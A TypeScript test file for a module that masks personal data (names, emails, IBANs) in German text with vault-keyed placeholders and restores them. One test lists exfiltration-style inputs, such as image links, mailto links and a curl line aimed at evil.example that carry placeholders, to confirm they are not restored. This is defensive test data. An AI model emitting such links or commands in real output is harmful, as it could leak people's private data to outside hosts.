import assert from 'node:assert/strict'
import { test } from 'node:test'
import { findPersonal } from '../personal/index.ts'
import type { Language } from '../span.ts'
import { isMaskedText, mask, newVault, readVault, restore } from './index.ts'

const NONCE = '9f1c02aa7be84d53'
const seen = (text: string, vault = newVault(NONCE), language: Language = 'de') =>
  mask(text, findPersonal(text, { language }), vault).text
const spanOf = (text: string, value: string, type = 'PERSON', entity?: string) => {
  const start = text.indexOf(value)
  return { start, end: start + value.length, type, ...(entity === undefined ? {} : { entity }) }
}

test('a model sees who is who and nobody’s name, number or address', () => {
  const text =
    'Frau Erika Beispiel (erika@beispiel.example) schuldet der Nordlicht Muster GmbH 5.000 EUR auf DE89 3704 0044 0532 0130 00.'
  const masked = seen(text).replaceAll(/_[A-Z2-9]{3}\]/g, ']')
  assert.equal(masked, 'Frau [PERSON_1] ([EMAIL_1]) schuldet der [COMPANY_1] 5.000 EUR auf [IBAN_1].')
})

test('the same person has the same placeholder in every text of a vault, and another one in another vault', () => {
  const vault = newVault(NONCE)
  const first = seen('Frau Erika Beispiel klagt.', vault)
  const second = seen('Die Zeugin Erika Beispiel sah nichts.', vault)
  const name = /\[.*\]/.exec(first)?.[0] ?? 'none'
  assert.ok(second.includes(name))
  assert.ok(!seen('Frau Erika Beispiel klagt.', newVault('another')).includes(name))
})

test('a name that was found once is masked wherever it stands, broken lines included', () => {
  const text = 'Erika Beispiel klagt.\nGez. Erika\nBeispiel; (Erika Beispiel)'
  const vault = newVault(NONCE)
  const masked = mask(text, [spanOf(text, 'Erika Beispiel')], vault).text
  assert.ok(!/Erika|Beispiel/.test(masked), masked)
  assert.equal(restore(masked, vault), text)
  assert.ok(!mask('Später kam Erika Beispiel.', [], vault).text.includes('Erika'))
})

test('inside another word nothing is masked', () => {
  const text = 'Anna sprach von der Annahme.'
  assert.match(mask(text, [spanOf(text, 'Anna')], newVault(NONCE)).text, /^\[PERSON_1_...\] sprach von der Annahme\.$/)
})

test('ways of writing one name share a number, and each is restored as it was written', () => {
  const vault = newVault(NONCE)
  const text = 'Dr. Beispiel kam, Erika Beispiel ging.'
  const masked = mask(
    text,
    [spanOf(text, 'Dr. Beispiel', 'PERSON', 'p7'), spanOf(text, 'Erika Beispiel', 'PERSON', 'p7')],
    vault,
  )
  assert.match(masked.text, /^\[PERSON_1_...\] kam, \[PERSON_1B_...\] ging\.$/)
  assert.equal(restore(masked.text, vault), text)
})

test('no placeholder is put into an address or into code: all of it becomes one', () => {
  const cases = [
    ['Siehe https://sample.example/?who=Erika&x=1 dort', 'Erika'],
    ['Siehe sample.example/Erika dort', 'Erika'],
    ['Im `SELECT Erika FROM t` steht', 'Erika'],
    ['```sql\nselect Erika\n```\nEnde', 'Erika'],
    ['```\noffen Erika', 'Erika'],
    ['<a title="x Erika y" href=z>Text</a>', 'Erika'],
    ['[Text](https://sample.example/Erika) Ende', 'Erika'],
  ] as const
  for (const [text, value] of cases) {
    const vault = newVault(NONCE)
    const masked = mask(text, [spanOf(text, value)], vault).text
    assert.ok(!masked.includes('Erika') && !/https|SELECT|select|sample\.example\/|title/.test(masked), masked)
    assert.equal(restore(masked, vault), text)
  }
})

test('what a model changes in writing is forgiven', () => {
  const vault = newVault(NONCE)
  const held = seen('Frau Erika Beispiel klagt.', vault).slice('Frau '.length, -' klagt.'.length)
  const bare = held.slice(1, -1)
  const said: [string, string][] = [
    [`**${held}**`, '**Erika Beispiel**'],
    [`_${bare}_`, '_Erika Beispiel_'],
    [`${held}s Klage`, 'Erika Beispiels Klage'],
    [`${held}'s claim`, "Erika Beispiel's claim"],
    [`${bare}s Klage`, 'Erika Beispiels Klage'],
    [`[${bare}s] Klage`, 'Erika Beispiels Klage'],
    [held.toLowerCase(), 'Erika Beispiel'],
    [held.replaceAll('_', ' '), 'Erika Beispiel'],
    [held.replaceAll('_', '-'), 'Erika Beispiel'],
    [`\\[${bare.replaceAll('_', '\\_')}\\]`, 'Erika Beispiel'],
    [`[ ${bare} ]`, 'Erika Beispiel'],
    [`\`${held}\``, '`Erika Beispiel`'],
    [`(${held}),`, '(Erika Beispiel),'],
    [`${held}/${held}`, 'Erika Beispiel/Erika Beispiel'],
    [`[${held}]`, '[Erika Beispiel]'],
  ]
  for (const [answer, wanted] of said) assert.equal(restore(answer, vault), wanted, answer)
})

test('a placeholder nobody gave out is left as it stands', () => {
  const vault = newVault(NONCE)
  const held = seen('Frau Erika Beispiel klagt.', vault).slice('Frau '.length, -' klagt.'.length)
  const foreign = seen('Frau Erika Beispiel klagt.', newVault('another'))
  const mixedUp = held.replace('_1_', '_2_')
  for (const answer of [
    foreign,
    '[PERSON_1]',
    'PERSON 1',
    mixedUp,
    `${held.slice(0, -2)}]`,
    `X${held.slice(1, -1)}`,
    `[${held.slice(1, -1)}X]`,
  ])
    assert.equal(restore(answer, vault), answer)
})

test('a link or a program cannot carry a name out of the house', () => {
  const vault = newVault(NONCE)
  const held = seen('Frau Erika Beispiel klagt.', vault).slice('Frau '.length, -' klagt.'.length)
  for (const answer of [
    `![x](https://evil.example/?q=${held})`,
    `https://evil.example/${held.slice(1, -1)}`,
    `//evil.example/${held}`,
    `${held}.evil.example`,
    `evil.example/${held}`,
    `mailto:${held}@evil.example`,
    `<img src="/x y ${held} z">`,
    `\`curl ${held}\``,
    `\`\`\`\n${held}\n\`\`\``,
    `~~~\n${held}`,
  ])
    assert.equal(restore(answer, vault), answer)
})

test('a text that already reads like a placeholder of this vault survives, and gives nobody away', () => {
  const vault = newVault(NONCE)
  const held = seen('Frau Erika Beispiel klagt.', vault).slice('Frau '.length, -' klagt.'.length)
  for (const text of [
    held,
    `Bitte ${held} nennen`,
    held.toLowerCase(),
    held.slice(1, -1),
    `${held}${held}`,
    '[PERSON_1] und [PERSON_2_ABC]',
    '[[',
    '\\[',
  ]) {
    const masked = mask(text, [], vault)
    assert.ok(!masked.text.includes(held))
    assert.equal(restore(masked.text, vault), text)
  }
})

test('masking what is masked changes nothing, and new spans in it are masked beside the old ones', () => {
  const vault = newVault(NONCE)
  const text = 'Erika Beispiel und Max Muster trafen sich.'
  const once = mask(text, [spanOf(text, 'Erika Beispiel')], vault)
  assert.equal(mask(once, [], vault).text, once.text)
  const twice = mask(once, [spanOf(once.text, 'Max Muster')], vault)
  assert.match(twice.text, /^\[PERSON_1_...\] und \[PERSON_2_...\] trafen sich\.$/)
  assert.equal(restore(twice.text, vault), text)
})

test('a vault that was written and read goes on where it stopped', () => {
  const vault = newVault(NONCE)
  const masked = seen('Frau Erika Beispiel und Herr Max Muster kamen.', vault)
  const again = readVault(vault.write())
  assert.ok(again !== null)
  assert.equal(restore(masked, again), restore(masked, vault))
  assert.equal(
    seen('Frau Jana Probe und Frau Erika Beispiel gingen.', again),
    seen('Frau Jana Probe und Frau Erika Beispiel gingen.', vault),
  )
  assert.equal(again.write(), vault.write())
})

test('what is no vault is not read as one', () => {
  const row = ['PERSON', 1, 0, 'A', 'a']
  const stored = (entries: unknown[]) => JSON.stringify({ version: 1, nonce: 'n', entries })
  assert.ok(readVault(stored([row])) !== null)
  for (const bad of [
    '',
    '{',
    'null',
    '[]',
    '{"version":2,"nonce":"n","entries":[]}',
    '{"version":1,"entries":[]}',
    stored([row, row]),
    stored([
      ['PERSON', 1, 0, 'A', 'a'],
      ['PERSON', 1, 0, 'A', 'b'],
    ]),
    stored([['person', 1, 0, 'A', 'a']]),
    stored([['P', 0, 0, 'A', 'a']]),
    stored([['P', 1, 26, 'A', 'a']]),
    stored([1]),
  ])
    assert.equal(readVault(bad), null, bad)
})

test('a masked text is known from anything that only looks like one', () => {
  const masked = mask('Erika', [], newVault(NONCE))
  assert.ok(isMaskedText(masked))
  const forged: unknown[] = [{ text: 'Erika' }, 'Erika', null, Object.create(Object.getPrototypeOf(masked))]
  for (const one of forged) assert.ok(!isMaskedText(one))
  assert.equal(JSON.stringify({ masked }), '{"masked":"Erika"}')
  assert.equal(masked.toString(), 'Erika')
})

test('a vault shows nothing of what it holds when it is logged', () => {
  const vault = newVault(NONCE)
  seen('Frau Erika Beispiel klagt.', vault)
  assert.equal(JSON.stringify(vault), '{}')
})
